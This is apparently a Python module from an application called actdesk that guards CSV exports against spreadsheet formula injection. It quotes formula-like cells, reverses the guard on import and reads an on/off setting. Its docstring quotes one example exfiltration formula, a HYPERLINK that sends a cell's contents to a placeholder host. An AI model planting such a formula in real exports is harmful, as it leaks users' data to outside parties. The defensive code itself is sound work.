"""Spreadsheet formula injection (OWASP "CSV injection"): a client's name must never run as a formula.

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is taken as a formula
by Excel, LibreOffice and Google Sheets when the file is opened (``=HYPERLINK("http://x/?d="&B5,"click")``
sends the neighbouring cell away). CSV files we write put a single quote before such text, which the
spreadsheet shows as text and hides; actdesk's own book import removes that quote again, so a round trip
gives back exactly what was exported. Text that is only a number or a phone number (``-12.5``,
``+1 (555) 010-0100``) is left as it is: no spreadsheet reads it as a call. Settings section ``export``,
``csv_formula_guard = false`` turns the quote off for other programs that read CSV literally; the window and
the CLI read it (``guard_enabled(settings)``) and pass it to the writers as ``guard=``.
XLSX cells are written as typed text (see ``reports/render/xlsx.py``), so they need no quote.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from typing import TYPE_CHECKING, ClassVar

if TYPE_CHECKING:
    from actdesk.settings import Settings

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
GUARD = "'"
_NUMERIC = re.compile(r"[+-]?[\d\s().\-/]*\d[\d\s().\-/]*")


@dataclass
class ExportSettings:
    """Settings section "export"."""

    SECTION: ClassVar[str] = "export"  # its section of the settings file
    csv_formula_guard: bool = True


def guard_enabled(settings: Settings) -> bool:
    """Whether CSV files written for this user quote formula-like text (the default)."""
    return settings.section(ExportSettings).csv_formula_guard


def needs_guard(text: str) -> bool:
    return text.startswith(FORMULA_START) and not _NUMERIC.fullmatch(text)


def guard(text: str) -> str:
    """``text`` as a CSV cell that no spreadsheet evaluates."""
    return GUARD + text if needs_guard(text) else text


def unguard(text: str) -> str:
    """The text a guarded cell stood for (actdesk reading back its own export)."""
    return text[1:] if text.startswith(GUARD) and needs_guard(text[1:]) else text


def guard_row(row: list[object], enabled: bool = True) -> list[object]:
    if not enabled:
        return row
    return [guard(v) if isinstance(v, str) else v for v in row]
